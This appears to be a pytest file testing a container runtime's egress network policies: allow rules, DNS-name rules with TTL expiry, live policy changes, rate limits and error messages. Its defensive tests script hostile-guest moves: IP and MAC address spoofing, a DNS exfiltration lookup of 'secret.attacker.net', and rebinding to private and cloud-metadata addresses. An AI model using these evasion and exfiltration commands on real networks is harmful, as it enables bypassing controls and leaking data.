"""Policies for the way out, from inside of real guests, honest and hostile."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest

import busybox_image
from audit import kill_process
from dns_words import Asked
from free_port import free_port
from host_address import host_address
from hyper import Hyper
from owners import hyper_of
from reach import http_get

BUSYBOX = busybox_image.REFERENCE
SLEEP = ("sh", "-c", "sleep 1000")
# Addresses that are the internet's to those who ask, and this host's own while a test runs.
PUBLIC, OTHER, PRIVATE = "20.30.40.50", "20.30.40.51", "10.203.40.50"

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="bridges want root"),
    pytest.mark.needs("user mode linux"),  # one kind of guest does: what keeps a policy is on the host
]


@pytest.fixture
def world() -> Iterator[None]:
    with contextlib.ExitStack() as undo:
        for address in (PUBLIC, OTHER, PRIVATE):
            undo.enter_context(host_address(address))
        yield


@contextlib.contextmanager
def echoes(address: str, port: int = 0) -> Iterator[int]:
    """Says back what it is told, by TCP; the port."""
    server = socket.create_server((address, port))
    ends: list[socket.socket] = []

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                ends.append(connection)
                threading.Thread(target=answer, args=[connection], daemon=True).start()

    def answer(connection: socket.socket) -> None:
        with contextlib.suppress(OSError), connection:
            while data := connection.recv(1 << 16):
                connection.sendall(data)

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield server.getsockname()[1]
    finally:
        server.shutdown(socket.SHUT_RDWR)
        server.close()
        thread.join()
        for each in ends:
            each.close()


@contextlib.contextmanager
def names(address: str, answers: dict[str, tuple[str, int]]) -> Iterator[list[str]]:
    """A name server, by UDP: (address, TTL in seconds) by the name; what it was asked."""
    asked: list[str] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((address, 53))

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    data, client = server.recvfrom(4096)
                    if not data:
                        return
                    question = Asked(data, "udp", client[1])
                    asked.append(question.name)
                    address, ttl = answers.get(question.name, ("", 0))
                    ours = address and question.message.question[0].rdtype == 1
                    server.sendto(question.answer(*([f"{ttl} A {address}"] if ours else [])), client)

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield asked
        finally:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
                end.sendto(b"", (address, 53))
            thread.join()


@pytest.fixture
def policy(hyper: Hyper, tmp_path: Path) -> Iterator[Callable[[str, str], str]]:
    """Makes one of a name, or changes it; its name."""
    made: set[str] = set()

    def put(name: str, text: str) -> str:
        path = tmp_path / f"{name}.yaml"
        path.write_text(text)
        hyper("policy", "update" if name in made else "create", name, str(path))
        made.add(name)
        return name

    yield put
    hyper.remove_all()
    for name in made:
        hyper("policy", "rm", name)


def run(hyper: Hyper, name: str, *flags: str) -> None:
    hyper("run", "-d", "--privileged", "--name", name, *flags, BUSYBOX, *SLEEP)


def says(hyper: Hyper, name: str, address: str, port: int) -> bool:
    """Whether it is answered there."""
    script = f"echo hello | timeout 5 nc {address} {port}; echo asked"
    said = hyper("exec", name, "sh", "-c", script).stdout
    assert said.endswith(b"asked\n"), said
    return said == b"hello\nasked\n"


def test_only_what_a_rule_allows_is_reached(
    hyper: Hyper, world: None, policy: Callable[[str, str], str]
) -> None:
    with echoes(PUBLIC) as port, echoes(OTHER, port), echoes(PUBLIC) as more:
        policy("some", f"egress:\n- to: [{PUBLIC}/32]\n  ports: [{port}]\n")
        run(hyper, "web", "--network-policy", "some")
        run(hyper, "free")
        assert says(hyper, "web", PUBLIC, port)
        assert not says(hyper, "web", PUBLIC, more)
        assert not says(hyper, "web", OTHER, port)
        assert says(hyper, "free", OTHER, port)
        neighbour = hyper.inspect("free")["NetworkSettings"]["Networks"]["bridge"]["IPAddress"]
        assert hyper("exec", "web", "ping", "-c1", "-W1", neighbour, check=False).returncode != 0
        own = hyper.inspect("web")["NetworkSettings"]["Networks"]["bridge"]["IPAddress"]
        assert hyper("exec", "free", "ping", "-c1", "-W2", own, check=False).returncode == 0
        assert hyper("policy", "check", "web", f"tcp://{PUBLIC}:{port}").returncode == 0
        denied = hyper("policy", "check", "web", f"tcp://{OTHER}:{port}", check=False)
        assert (denied.returncode, denied.stdout) == (1, b"denied: no rule allows it\n")
        found = hyper.until(lambda: audit(hyper, "web", OTHER), "a line about it")
        assert found is not None
        assert (found["port"], found["protocol"], found["pod_name"]) == (port, "tcp", "web")
        refused = hyper("policy", "rm", "some", check=False)
        assert refused.returncode == 1 and b"used by web" in refused.stderr


def audit(hyper: Hyper, name: str, address: str = "", host: str = "") -> dict[str, object] | None:
    """The first line of this kind."""
    for line in hyper.out("policy", "audit", name, "--format", "json").splitlines():
        found: dict[str, object] = json.loads(line)
        if found["address"] == address and host in ("", found["name"]):
            return found
    return None


def test_names_are_reached_where_they_lead_and_as_long(
    hyper: Hyper, world: None, policy: Callable[[str, str], str]
) -> None:
    answers = {
        "api.example.com": (PUBLIC, 1),
        "rebound.example.com": (PRIVATE, 60),
        "metadata.example.com": ("169.254.169.254", 60),
        "other.org": (OTHER, 60),
    }
    with echoes(PUBLIC) as port, echoes(PRIVATE, port), echoes(OTHER, port), names(PUBLIC, answers) as asked:
        policy("byname", f'egress:\n- to: ["*.example.com"]\n  ports: [{port}]\n')
        run(hyper, "web", "--network-policy", "byname", "--dns", PUBLIC)
        assert not says(hyper, "web", PUBLIC, port)  # before a name has led there
        assert says(hyper, "web", "api.example.com", port)
        assert says(hyper, "web", PUBLIC, port)
        assert hyper("policy", "check", "web", f"tcp://api.example.com:{port}").returncode == 0
        assert not says(hyper, "web", "rebound.example.com", port)
        assert not says(hyper, "web", PRIVATE, port)
        assert not says(hyper, "web", "other.org", port)
        assert "other.org" not in asked and "rebound.example.com" in asked
        hyper.until(lambda: audit(hyper, "web", PRIVATE, "rebound.example.com"), "the rebinding")
        hyper.until(lambda: audit(hyper, "web", "", "other.org"), "the name that was not asked for")
        hyper("exec", "web", "sh", "-c", f"nslookup secret.attacker.net {PUBLIC}", check=False)
        tcp = f"printf '\\0\\35\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' | timeout 3 nc {PUBLIC} 53"
        hyper("exec", "web", "sh", "-c", tcp, check=False)
        assert not any("attacker" in name for name in asked)
        # It runs out, and a connection that is open goes on.
        script = f"(echo one; sleep 45; echo two; sleep 1) | nc {PUBLIC} {port} > /said"
        hyper("exec", "-d", "web", "sh", "-c", script)
        hyper.until(lambda: not says(hyper, "web", PUBLIC, port), "the end of what the name allows")
        hyper.until(lambda: hyper.out("exec", "web", "cat", "/said") == "one\ntwo", "the open connection")


def test_a_change_counts_at_once_and_cuts_what_is_open(
    hyper: Hyper, world: None, policy: Callable[[str, str], str]
) -> None:
    with echoes(PUBLIC) as port, echoes(OTHER, port):
        both = f"egress:\n- to: [{PUBLIC}, {OTHER}]\n  ports: [{port}]\n"
        policy("changing", both)
        run(hyper, "web", "--network-policy", "changing")
        for address in (PUBLIC, OTHER):
            script = f"(while echo tick; do usleep 100000; done) | nc {address} {port} > /to-{address}; echo > /end"
            hyper("exec", "-d", "web", "sh", "-c", f"{script}-{address}")
            hyper.until(partial(_there, hyper, "-s", f"/to-{address}"), "a tick")
        policy("changing", f"egress:\n- to: [{PUBLIC}]\n  ports: [{port}]\n")
        hyper.until(partial(_there, hyper, "-e", f"/end-{OTHER}"), "the end of the connection")
        assert not says(hyper, "web", OTHER, port)
        assert says(hyper, "web", PUBLIC, port)
        assert not _there(hyper, "-e", f"/end-{PUBLIC}")
        policy("changing", both)
        assert says(hyper, "web", OTHER, port)


def _there(hyper: Hyper, *words: str) -> bool:
    """What test(1) says of a file of the container."""
    return hyper("exec", "web", "test", *words, check=False).returncode == 0


def test_a_hostile_guest_does_not_get_around_it(
    hyper: Hyper, world: None, policy: Callable[[str, str], str]
) -> None:
    """As root of its VM: another's addresses of IP and Ethernet, packets of its own making, other ways."""
    with echoes(PUBLIC) as port:
        policy("nothing", "egress: []\n")
        run(hyper, "web", "--network-policy", "nothing")
        run(hyper, "free")
        free = hyper.inspect("free")["NetworkSettings"]["Networks"]["bridge"]
        stolen = f"ip address add {free['IPAddress']}/16 dev eth0; timeout 5 nc -s {free['IPAddress']} {PUBLIC} {port}"
        assert (
            b"hello" not in hyper("exec", "web", "sh", "-c", f"echo hello | ({stolen})", check=False).stdout
        )
        by_mac = (
            "ip link set eth0 down; ip link set eth0 address "
            f"{free['MacAddress']}; ip link set eth0 up; ip route add default via {free['Gateway']}; "
            f"timeout 5 nc {PUBLIC} {port}"
        )
        assert (
            b"hello" not in hyper("exec", "web", "sh", "-c", f"echo hello | ({by_mac})", check=False).stdout
        )
        assert says(hyper, "free", PUBLIC, port)


def test_published_ports_are_answered(hyper: Hyper, policy: Callable[[str, str], str]) -> None:
    policy("closed", "egress: []\n")
    port = free_port()
    server = ("sh", "-c", "mkdir /w; echo here > /w/name; exec httpd -f -p 80 -h /w")
    hyper("run", "-d", "--name", "web", "--network-policy", "closed", "-p", f"{port}:80", BUSYBOX, *server)
    hyper.until(lambda: http_get(f"127.0.0.1:{port}", "/name")[1] == b"here\n", "its answer")


def test_it_stays_when_hyperd_is_killed_and_is_taken_back(
    own_hyper: Hyper, world: None, tmp_path: Path
) -> None:
    hyper = own_hyper
    with echoes(PUBLIC) as port, echoes(OTHER, port):
        path = tmp_path / "policy.yaml"
        path.write_text(f"egress:\n- to: [{PUBLIC}]\n  ports: [{port}]\n")
        hyper("policy", "create", "some", str(path))
        run(hyper, "web", "--network-policy", "some")
        run(hyper, "own", "--network-policy", str(path))
        assert says(hyper, "web", PUBLIC, port) and says(hyper, "own", PUBLIC, port)
        assert kill_process(hyper.daemon_pid())
        for name in ("web", "own"):
            assert says(hyper, name, PUBLIC, port)
            assert not says(hyper, name, OTHER, port)
        path.write_text(f"egress:\n- to: [{OTHER}]\n  ports: [{port}]\n")
        hyper("policy", "update", "some", str(path))
        assert says(hyper, "web", OTHER, port) and not says(hyper, "web", PUBLIC, port)
        assert says(hyper, "own", PUBLIC, port)


def test_rates_are_kept(hyper: Hyper, world: None) -> None:
    """4 Mbit a second, 2 MiB: a little over four seconds, less what may come at once."""
    with echoes(PUBLIC) as port:
        for way, script in (
            ("out", f"dd if=/dev/zero bs=64k count=32 2>/dev/null | nc {PUBLIC} {port} | wc -c"),
            ("in", f"dd if=/dev/zero bs=64k count=32 2>/dev/null | nc {PUBLIC} {port} | wc -c"),
        ):
            run(hyper, way, "--network-rate", f"{way}=4Mbit")
            begin = time.monotonic()
            assert int(hyper.out("exec", way, "sh", "-c", script)) == 32 * 65536
            assert 2 < time.monotonic() - begin < 40


def test_what_is_wrong_is_said_with_its_place(hyper: Hyper, tmp_path: Path) -> None:
    path = tmp_path / "wrong.yaml"
    path.write_text("egress:\n- to: [10.0.0.0/8]\n- to: [10.0.0.1/8]\n")
    wrong = hyper("policy", "create", "wrong", str(path), check=False)
    assert wrong.returncode == 1
    assert b"wrong.yaml, line 3 (egress[1].to[0])" in wrong.stderr and b"host bits" in wrong.stderr
    unknown = hyper("run", "--rm", "--network-policy", "nobody", BUSYBOX, "true", check=False)
    assert unknown.returncode == 125 and b"there is no network policy nobody" in unknown.stderr
    path.write_text("egress: []\n")
    user = hyper(
        "run", "--rm", "--network", "user", "--network-policy", str(path), BUSYBOX, "true", check=False
    )
    assert user.returncode == 125 and b"networks of hyperd's own" in user.stderr


def test_an_ordinary_users_pods_have_policies_too(hypervisor: str, world: None) -> None:
    with hyper_of("user", hypervisor) as hyper, echoes(PUBLIC) as port, echoes(OTHER, port):
        text = f"egress:\n- to: [{PUBLIC}]\n  ports: [{port}]\n"
        hyper("policy", "create", "some", "-", stdin=text.encode())
        run(hyper, "web", "--network-policy", "some")
        assert says(hyper, "web", PUBLIC, port)
        assert not says(hyper, "web", OTHER, port)
        hyper("policy", "update", "some", "-", stdin=text.replace(PUBLIC, OTHER).encode())
        assert says(hyper, "web", OTHER, port)
        assert not says(hyper, "web", PUBLIC, port)
        hyper.until(lambda: audit(hyper, "web", PUBLIC), "a line about it")
